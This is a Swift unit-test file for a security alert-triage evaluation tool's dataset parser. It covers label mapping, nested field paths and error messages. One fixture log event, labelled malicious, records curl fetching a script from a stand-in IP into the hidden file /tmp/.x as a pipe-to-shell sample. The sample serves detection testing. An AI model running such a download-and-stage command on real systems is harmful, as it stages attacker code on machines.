import Foundation
import StubTestSupport
import Testing
@testable import TriageEval

/// Datasets: NDJSON/JSONL with one case per line, placed by a mapping (`cases import FILE --mapping …`).
@Suite struct DatasetParserTests {
    static func text(_ name: String) throws -> String {
        String(decoding: try TestFixtures.data("datasets/\(name)"), as: UTF8.self)
    }

    static func curlMapping() throws -> DatasetMapping {
        try DatasetMapping.parseYAML(try text("curl-events.mapping.yaml"), file: "curl-events.mapping.yaml")
    }

    @Test func malignBenignValuesNestedPathsWholeLineDocumentAndDrafts() throws {
        let mapping = try Self.curlMapping()
        #expect(mapping == DatasetMapping(
            idField: "event.id", labelField: "triage.verdict", tpValues: ["malicious"], fpValues: ["benign"], skipValues: ["unknown", "null"],
            scenarioField: "triage.scenario", index: "logs-endpoint.events.process-default"
        ))
        let contents = try DatasetParser.read(try Self.text("curl-events.jsonl"), file: "curl-events.jsonl", mapping: mapping)
        #expect(contents.cases.map(\.id) == ["curl-pipe-sh-01", "curl-health-01"])
        // "Benign" matches the value benign: letter case is ignored.
        #expect(contents.cases.map(\.label) == [.tp, .fp])
        #expect(contents.cases.map(\.scenario) == ["pipe-to-shell", "health-check"])
        // "unknown" and a JSON null are mapped to skip: drafts, named.
        #expect(contents.drafts == ["curl-unreviewed-01", "curl-unreviewed-02"])
        // The whole line is the document, without its label and scenario (the model never sees the label).
        #expect(contents.cases[0].documents == [CaseDocument(
            index: "logs-endpoint.events.process-default", id: "curl-pipe-sh-01-1",
            source: #"{"@timestamp":"2026-03-02T09:01:00.000Z","event":{"id":"curl-pipe-sh-01","category":["process"],"type":["start"],"action":"exec"},"host":{"id":"web-01-id","name":"web-01"},"user":{"name":"www-data"},"process":{"name":"curl","args":["curl","-s","http://198.51.100.7:8080/x.sh","-o","/tmp/.x"],"parent":{"executable":"/usr/bin/bash"}},"triage":{}}"#
        )])
        #expect(contents.cases.allSatisfy { $0.documents?.first?.source.contains("enign") == false && $0.documents?.first?.source.contains("malicious") == false })
    }

    @Test func oneZeroValuesDottedAndNestedPathsAndADocumentField() throws {
        // As the flags give it: --id-field case.id --label-field label.value --tp-values 1 --fp-values 0 --document-field doc --index …
        let mapping = DatasetMapping(idField: "case.id", labelField: "label.value", tpValues: ["1"], fpValues: ["0"], documentField: "doc", index: "logs-endpoint.events.process-default")
        let contents = try DatasetParser.read(try Self.text("flat-binary.ndjson"), file: "datasets/flat-binary.ndjson", mapping: mapping)
        // Line 1 holds literal dotted keys ("case.id", "label.value"), line 2 nested objects: the same paths find both.
        #expect(contents.cases.map(\.id) == ["bin-1", "bin-2"])
        #expect(contents.cases.map(\.label) == [.tp, .fp])
        // No scenario field: the file's name.
        #expect(contents.cases.map(\.scenario) == ["flat-binary", "flat-binary"])
        #expect(contents.cases.compactMap { $0.documents?.first?.source } == [
            #"{"@timestamp":"2026-03-02T10:00:00.000Z","host.name":"db-01","process.name":"wget"}"#,
            #"{"@timestamp":"2026-03-02T10:01:00.000Z","host":{"name":"db-02"},"process":{"name":"wget"}}"#,
        ])
        #expect(contents.drafts.isEmpty)
    }

    @Test func aSearchHitGivesItsIndexIdAndSource() throws {
        let mapping = DatasetMapping(idField: "case_id", labelField: "label")
        let contents = try DatasetParser.read(try Self.text("hits-tpfp.jsonl"), file: "hits-tpfp.jsonl", mapping: mapping)
        #expect(contents.cases.map(\.label) == [.tp, .fp])
        #expect(contents.cases[1].documents == [CaseDocument(
            index: ".ds-logs-endpoint.events.process-default-2026.03.02-000001", id: "Yr2c",
            source: #"{"@timestamp":"2026-03-02T11:05:00.000Z","host":{"name":"mac-02"},"process":{"name":"curl"}}"#
        )])
    }

    @Test func trueFalseValuesAreText() throws {
        let mapping = DatasetMapping(idField: "id", labelField: "is_attack", tpValues: ["true"], fpValues: ["false"], index: "i")
        let contents = try DatasetParser.read(#"{"id":"t","is_attack":true}"# + "\n" + #"{"id":"f","is_attack":false}"#, file: "b.jsonl", mapping: mapping)
        #expect(contents.cases.map(\.label) == [.tp, .fp])
    }

    @Test func errorsNameFileLineAndField() throws {
        let mapping = try Self.curlMapping()
        func error(_ text: String, file: String) -> String? {
            do {
                _ = try DatasetParser.read(text, file: file, mapping: mapping)
                return nil
            } catch {
                return error.description
            }
        }
        #expect(error(try Self.text("bad-label.jsonl"), file: "bad-label.jsonl")
            == #"bad-label.jsonl:3: triage.verdict: label value "suspicious" is not in the mapping (tp_values: malicious; fp_values: benign; skip_values: unknown, null)"#)
        #expect(error(try Self.text("missing-id.jsonl"), file: "missing-id.jsonl") == "missing-id.jsonl:2: event.id: is missing (the id_field)")
        #expect(error(#"{"event":{"id":"x"},"triage":{"scenario":"s"}}"#, file: "d.jsonl") == "d.jsonl:1: triage.verdict: is missing (the label_field)")
        #expect(error(#"{"event":{"id":"x y"},"triage":{"verdict":"benign","scenario":"s"}}"#, file: "d.jsonl")
            == #"d.jsonl:1: event.id: the id must contain only letters, digits, '-', '_' or '.', got "x y""#)
        #expect(error("\n[1, 2]", file: "d.jsonl") == "d.jsonl:2: expected one JSON object per line (one case)")
        let twice = #"{"event":{"id":"x"},"triage":{"verdict":"benign","scenario":"s"}}"#
        #expect(error(twice + "\n" + twice, file: "d.jsonl") == #"d.jsonl:2: event.id: duplicate id "x" (first defined on line 1)"#)
        let noIndex = DatasetMapping(idField: "id", labelField: "l")
        #expect(throws: InputError.self) { try DatasetParser.read(#"{"id":"x","l":"TP"}"#, file: "d.jsonl", mapping: noIndex) }
    }

    @Test func mappingFileErrorsNameTheKeyAndLine() {
        func error(_ yaml: String) -> String? {
            do {
                _ = try DatasetMapping.parseYAML(yaml, file: "m.yaml")
                return nil
            } catch {
                return error.description
            }
        }
        #expect(error("id_field: id\nlabel_field: l\ntp_values: [1, yes]\nfp_values: [0, YES]\n") == #"m.yaml:4:12: fp_values: "YES" is also in tp_values"#)
        #expect(error("id_field: id\nlabel_fields: l\n")?.hasPrefix("m.yaml:2:1: label_fields: unknown key") == true)
        #expect(error("label_field: l\n") == "m.yaml:1:1: id_field: is required")
        #expect(error("id_field: a..b\nlabel_field: l\n") == #"m.yaml:1:11: id_field: must be a dotted field path, got "a..b""#)
    }
}
